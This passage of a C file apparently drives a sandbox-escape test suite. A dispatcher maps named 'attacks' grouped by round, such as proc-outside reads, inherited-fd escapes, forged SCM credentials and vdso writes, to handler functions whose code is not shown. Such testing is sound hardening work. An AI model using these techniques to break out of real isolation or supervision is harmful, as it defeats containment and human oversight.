	else if (!strcmp(name, "exec-bss"))
		need(argc, 4), exec_bss(argv[2], argv[3]);
	else if (!strcmp(name, "udp-bind-race"))
		udp_bind_race();
	else if (!strcmp(name, "proc-environ"))
		proc_environ();
	else if (!strcmp(name, "rename-whiteout"))
		need(argc, 3), rename_whiteout(argv[2]);
	else if (!strcmp(name, "writable-walk-race"))
		need(argc, 4), writable_walk_race(argv[2], argv[3]);
	else if (!strcmp(name, "connect-unspecified"))
		need(argc, 3), connect_unspecified(argv[2]);
	else if (!strcmp(name, "memfd-memory"))
		need(argc, 3), memfd_memory(argv[2]);
	else if (!strcmp(name, "tty-nonblock"))
		tty_nonblock();
	else if (!strcmp(name, "abstract-autobind"))
		abstract_autobind();
	/* round 2 */
	else if (!strcmp(name, "ip-source-route"))
		need(argc, 3), ip_source_route(argv[2]);
	else if (!strcmp(name, "listen-after-refused"))
		need(argc, 3), listen_after_refused(argv[2]);
	else if (!strcmp(name, "connect-v6-unspecified"))
		need(argc, 4), connect_v6_unspecified(argv[2], argv[3]);
	else if (!strcmp(name, "stale-slot-proc"))
		need(argc, 3), stale_slot_proc(argv[2]);
	else if (!strcmp(name, "anon-inode-chmod"))
		anon_inode_chmod();
	else if (!strcmp(name, "fsetsig-shared-file"))
		fsetsig_shared_file();
	else if (!strcmp(name, "fast-open-device"))
		need(argc, 3), fast_open_device(argv[2]);
	else if (!strcmp(name, "proc-fdinfo"))
		proc_fdinfo();
	else if (!strcmp(name, "overflow-panic"))
		overflow_panic();
	else if (!strcmp(name, "script-interp-oracle"))
		need(argc, 4), script_interp_oracle(argv[2], argv[3]);
	else if (!strcmp(name, "leader-gone"))
		need(argc, 3), leader_gone(argv[2]);
	else if (!strcmp(name, "mprotect-hoard"))
		need(argc, 3), mprotect_hoard(argv[2]);
	else if (!strcmp(name, "unshared-fd-table"))
		need(argc, 4), unshared_fd_table(argv[2], argv[3]);
	/* round 3 */
	else if (!strcmp(name, "v6-wildcard-takes-ipv4"))
		need(argc, 3), v6_wildcard_takes_ipv4(argv[2]);
	else if (!strcmp(name, "udp-failed-connect"))
		need(argc, 3), udp_failed_connect(argc, argv);
	else if (!strcmp(name, "udp-send-no-address"))
		udp_send_no_address();
	else if (!strcmp(name, "proc-self-outside"))
		need(argc, 3), proc_self_outside(argv[2]);
	else if (!strcmp(name, "shared-file-nonblock"))
		shared_file_nonblock();
	/* round 4 */
	else if (!strcmp(name, "udp-send-other-error"))
		udp_send_other_error();
	else if (!strcmp(name, "v6-autobind-dual-stack"))
		v6_autobind_dual_stack();
	else if (!strcmp(name, "shared-socket-timeout"))
		shared_socket_timeout();
	else if (!strcmp(name, "shared-pipe-packet"))
		shared_pipe_packet();
	else if (!strcmp(name, "v6only-null-race"))
		v6only_null_race();
	else if (!strcmp(name, "proc-fd-other-process"))
		proc_fd_other_process();
	/* round 5 */
	else if (!strcmp(name, "black-hole-any-port"))
		black_hole_any_port();
	else if (!strcmp(name, "mapped-connect-dual-stack"))
		mapped_connect_dual_stack();
	else if (!strcmp(name, "inherited-append-truncate"))
		inherited_append_truncate();
	else if (!strcmp(name, "proc-maps-outside"))
		need(argc, 3), proc_maps_outside(argv[2]);
	else if (!strcmp(name, "shared-socket-shutdown"))
		shared_socket_shutdown();
	else if (!strcmp(name, "shared-memfd-seal"))
		shared_memfd_seal();
	else if (!strcmp(name, "black-hole-send"))
		black_hole_send();
	/* round 6 */
	else if (!strcmp(name, "tty-ioctl-race"))
		tty_ioctl_race();
	else if (!strcmp(name, "shared-fioasync-race"))
		shared_fioasync_race();
	else if (!strcmp(name, "shared-lease-unlock"))
		shared_lease_unlock();
	else if (!strcmp(name, "shared-dnotify-owner"))
		shared_dnotify_owner();
	else if (!strcmp(name, "shared-flock-unlock"))
		shared_flock_unlock();
	else if (!strcmp(name, "inherited-append-noappend"))
		inherited_append_noappend();
	else if (!strcmp(name, "outlive-supervisor"))
		need(argc, 3), outlive_supervisor(argv[2]);
	else if (!strcmp(name, "proc-fd-listing-race"))
		proc_fd_listing_race();
	else if (!strcmp(name, "poll-monitor-fds"))
		poll_monitor_fds();
	else if (!strcmp(name, "inherited-tty-fd3"))
		inherited_tty_fd3();
	else if (!strcmp(name, "shared-unix-disconnect"))
		shared_unix_disconnect();
	else if (!strcmp(name, "shared-timerfd-disarm"))
		shared_timerfd_disarm();
	else if (!strcmp(name, "shared-signalfd-mask"))
		shared_signalfd_mask();
	else if (!strcmp(name, "shared-epoll-add"))
		shared_epoll_add();
	/* round 7 */
	else if (!strcmp(name, "received-fds-shared"))
		received_fds_shared();
	else if (!strcmp(name, "ro-fifo-pipe-size"))
		need(argc, 3), ro_fifo_pipe_size(argv[2]);
	else if (!strcmp(name, "inherited-append-memfd"))
		inherited_append_memfd();
	else if (!strcmp(name, "walk-fd-grab"))
		need(argc, 4), walk_fd_grab(argv[2], argv[3]);
	else if (!strcmp(name, "maps-fd-race"))
		maps_fd_race();
	else if (!strcmp(name, "outer-tty-setfl"))
		outer_tty_setfl();
	else if (!strcmp(name, "inherited-pipe-fchmod"))
		inherited_pipe_fchmod();
	else if (!strcmp(name, "shared-epoll-oneshot"))
		shared_epoll_oneshot();
	else if (!strcmp(name, "shared-inotify-rm-watch"))
		shared_inotify_rm_watch();
	else if (!strcmp(name, "inherited-ptmx-lock"))
		inherited_ptmx_lock();
	else if (!strcmp(name, "utimes-overflow"))
		need(argc, 3), utimes_overflow(argv[2]);
	else if (!strcmp(name, "received-pipe-sigio-kill"))
		received_pipe_sigio_kill();
	/* round 8 */
	else if (!strcmp(name, "shared-map-ro-write"))
		need(argc, 3), shared_map_ro_write(argv[2]);
	else if (!strcmp(name, "parent-reach"))
		parent_reach();
	else if (!strcmp(name, "nofile-raise"))
		nofile_raise();
	else if (!strcmp(name, "rename-exchange"))
		need(argc, 4), rename_exchange(argv[2], argv[3]);
	else if (!strcmp(name, "proc-parent"))
		proc_parent();
	else if (!strcmp(name, "proc-aliases"))
		need(argc, 4), proc_aliases(argv[2], argv[3]);
	else if (!strcmp(name, "reserved-fd-reopen"))
		reserved_fd_reopen();
	else if (!strcmp(name, "tmpfile-link"))
		need(argc, 4), tmpfile_link(argv[2], argv[3]);
	else if (!strcmp(name, "clone-vm-process"))
		need(argc, 3), clone_vm_process(argv[2]);
	else if (!strcmp(name, "inherited-dir-escape"))
		need(argc, 3), inherited_dir_escape(argv[2]);
	/* round 9 */
	else if (!strcmp(name, "received-fd-race"))
		received_fd_race();
	else if (!strcmp(name, "reserved-fd-probe"))
		reserved_fd_probe();
	else if (!strcmp(name, "multicast-join"))
		multicast_join();
	/* round 10 */
	else if (!strcmp(name, "waitid-which-high-bits"))
		waitid_which_high_bits();
	else if (!strcmp(name, "fork-while-receiving"))
		fork_while_receiving(argc > 2 && !strcmp(argv[2], "control"));
	else if (!strcmp(name, "fork-while-room"))
		fork_while_room();
	else if (!strcmp(name, "received-fd-race-mmsg"))
		received_fd_race_mmsg();
	/* round 11 */
	else if (!strcmp(name, "nofile-high-bits"))
		nofile_high_bits();
	else if (!strcmp(name, "maps-nofile-high-bits"))
		maps_nofile_high_bits();
	else if (!strcmp(name, "fork-nofile-high-bits"))
		fork_nofile_high_bits();
	/* round 12 */
	else if (!strcmp(name, "room-window-fd"))
		room_window_fd();
	else if (!strcmp(name, "room-window-maps-child"))
		room_window_maps_child();
	else if (!strcmp(name, "high-inherited-pipe"))
		need(argc, 3), high_inherited_pipe(argv[2]);
	else if (!strcmp(name, "int-vectors"))
		int_vectors();
	else if (!strcmp(name, "monitor-thread-signals"))
		monitor_thread_signals();
	else if (!strcmp(name, "futex-pi-outside"))
		futex_pi_outside();
	else if (!strcmp(name, "close-range-cloexec-fork"))
		close_range_cloexec_fork(argv[0]);
	else if (!strcmp(name, "close-range-cloexec-fork-child"))
		close_range_cloexec_fork_child();
	/* round 13 */
	else if (!strcmp(name, "accept-efault-leak"))
		need(argc, 3), accept_efault_leak(argv[2]);
	else if (!strcmp(name, "fork-room-limit"))
		fork_room_limit();
	else if (!strcmp(name, "room-full-of-threads-fork"))
		room_full_of_threads_fork();
	else if (!strcmp(name, "signalfd-returns-monitor-fd"))
		signalfd_returns_monitor_fd();
	else if (!strcmp(name, "room-window-dupfd-floor"))
		room_window_dupfd_floor();
	/* round 14 */
	else if (!strcmp(name, "sockname-null-len"))
		need(argc, 4), sockname_null_len(argv[2], argv[3]);
	else if (!strcmp(name, "sysenter-vsyscall"))
		sysenter_vsyscall();
	/* round 15 */
	else if (!strcmp(name, "mremap-fixed-fail-hole"))
		mremap_fixed_fail_hole();
	else if (!strcmp(name, "mremap-hole-read"))
		mremap_hole_read();
	/* round 16 */
	else if (!strcmp(name, "brk-overcommit-hole"))
		brk_overcommit_hole(0);
	else if (!strcmp(name, "brk-overcommit-hole-rw"))
		brk_overcommit_hole(1);
	else if (!strcmp(name, "mremap-budget-hole"))
		mremap_budget_hole();
	else if (!strcmp(name, "wait-efault-stale-child"))
		wait_efault_stale_child();
	/* round 17 */
	else if (!strcmp(name, "cpu-clock-outside"))
		need(argc, 3), cpu_clock_outside(argv[2]);
	else if (!strcmp(name, "inherited-append-mmap"))
		inherited_append_mmap();
	else if (!strcmp(name, "user-quota-inotify"))
		user_quota_inotify();
	else if (!strcmp(name, "user-quota-sigpending"))
		user_quota_sigpending();
	else if (!strcmp(name, "close-unpinned-race"))
		need(argc, 4), close_unpinned_race(argv[2], argv[3], argc < 5);
	/* round 18 */
	else if (!strcmp(name, "vdso-write"))
		vdso_write();
	else if (!strcmp(name, "scm-creds-forged"))
		scm_creds_forged();
	else if (!strcmp(name, "timer-thread-outside"))
		timer_thread_outside();
	else if (!strcmp(name, "sigreturn-iopl"))
		sigreturn_iopl();
	/* round 19 */
	else if (!strcmp(name, "user-quota-epoll"))
		user_quota_epoll();
	else if (!strcmp(name, "userns-probe"))
		userns_probe();
	else if (!strcmp(name, "empty-path-meta"))
		need(argc, 4), empty_path_meta(argv[2], argv[3]);
	else if (!strcmp(name, "subreaper-slot"))
		subreaper_slot();
	/* round 20 */
	else if (!strcmp(name, "r20-splice-ro"))
		need(argc, 4), r20_splice_ro(argv[2], argv[3]);
	else if (!strcmp(name, "r20-proc-child"))
		r20_proc_child();
	else if (!strcmp(name, "r20-ipc-prio"))
		r20_ipc_prio();
	else if (!strcmp(name, "r20-xattr-lease"))
		need(argc, 4), r20_xattr_lease(argv[2], argv[3]);
	else if (!strcmp(name, "r20-clone-flags"))
		r20_clone_flags();
	fprintf(stderr, "unknown attack %s\n", name);
	return 2;
}
